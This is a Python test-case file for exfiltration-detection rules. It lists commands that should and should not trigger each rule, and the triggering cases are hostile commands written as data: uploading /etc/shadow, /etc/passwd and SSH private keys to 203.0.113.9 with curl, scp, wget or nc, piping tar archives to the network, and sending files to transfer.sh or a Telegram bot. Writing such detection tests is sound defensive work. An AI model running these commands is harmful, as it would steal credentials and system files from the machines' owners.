from made_events import opened, started
from rule_cases import Cases

__all__ = ["CASES"]

CASES: Cases = {
    "Sensitive file sent away": (
        [
            started("curl -F f=@/etc/shadow http://203.0.113.9/"),
            started("scp /root/.ssh/id_rsa x@203.0.113.9:"),
            started("scp /root/.ssh/id_rsa /root/.ssh/id_rsa.pub x@203.0.113.9:"),
            started("wget --post-file=/etc/passwd http://203.0.113.9/"),
        ],
        [
            started("curl -F f=@report.pdf https://example.org/"),
            started("scp -i /root/.ssh/id_rsa report.pdf x@203.0.113.9:"),
            started("rsync -a /srv/ backup:/srv/"),
            started("scp /root/.ssh/id_ed25519.pub x@203.0.113.9:"),
        ],
    ),
    "Sensitive directories packed": (
        [started("tar czf /tmp/x.tgz /etc/shadow /root/.ssh/id_rsa")],
        [started("tar czf /backup/etc.tgz /etc"), started("tar xf keys.tar home/ann/.ssh/id_rsa")],
    ),
    "Archive made and sent away": (
        [
            [
                started("tar czf /tmp/.d.tgz /home /etc", parents="sh bash"),
                started("curl -T /tmp/.d.tgz http://203.0.113.9/", parents="sh bash"),
            ]
        ],
        [
            [
                started("tar czf /tmp/src.tgz src", parents="sh bash"),
                started("scp /tmp/src.tgz build:", parents="sh bash"),
            ],
            [
                started("tar czf /backup/etc.tgz /etc", parents="sh bash"),
                started("ls /backup", parents="sh bash"),
            ],
        ],
    ),
    "File sent to a public drop": (
        [
            started("curl --upload-file x https://transfer.sh/x"),
            started("curl -F document=@x https://api.telegram.org/bot1/sendDocument"),
        ],
        [started("curl https://example.org/"), started("curl https://pastebin.com/raw/x")],
    ),
    "Screen or terminal recorded": (
        [opened("/dev/fb0", "python3 x.py"), opened("/dev/vcsa1", "cat /dev/vcsa1")],
        [opened("/dev/fb0", "Xorg", exe="/usr/lib/xorg/Xorg"), opened("/dev/null", "cat /dev/null")],
    ),
    "Archive streamed to the network": (
        [
            [
                started("tar czf - /etc /home", event={"proc.stdout.type": "pipe"}, proc_sid=7),
                started("curl -s -T - http://203.0.113.9/u", event={"proc.stdin.type": "pipe"}, proc_sid=7),
            ],
            [
                started("nc 203.0.113.9 443", event={"proc.stdin.type": "pipe"}, proc_sid=8),
                started("tar cf - /home/ann", event={"proc.stdout.type": "pipe"}, proc_sid=8),
            ],
        ],
        [
            [
                started("tar czf - /etc /home", event={"proc.stdout.type": "pipe"}, proc_sid=9),
                started("ssh backup cat", event={"proc.stdin.type": "pipe"}, proc_sid=9),
                started("curl -s https://example.org", event={"proc.stdin.type": "pipe"}, proc_sid=9),
            ]
        ],
    ),
    "Archive locked with a password": (
        [
            started("zip -q -r -P secret o.zip /home/ann/papers"),
            started("7z a -psecret o.7z papers"),
            started("openssl enc -aes-256-cbc -pbkdf2 -k x -out o.bin", event={"proc.stdin.type": "pipe"}),
        ],
        [
            started("zip -q -r o.zip papers"),
            started("7z x -psecret o.7z"),
            started("openssl enc -d -aes-256-cbc -k x", event={"proc.stdin.type": "pipe"}),
        ],
    ),
}
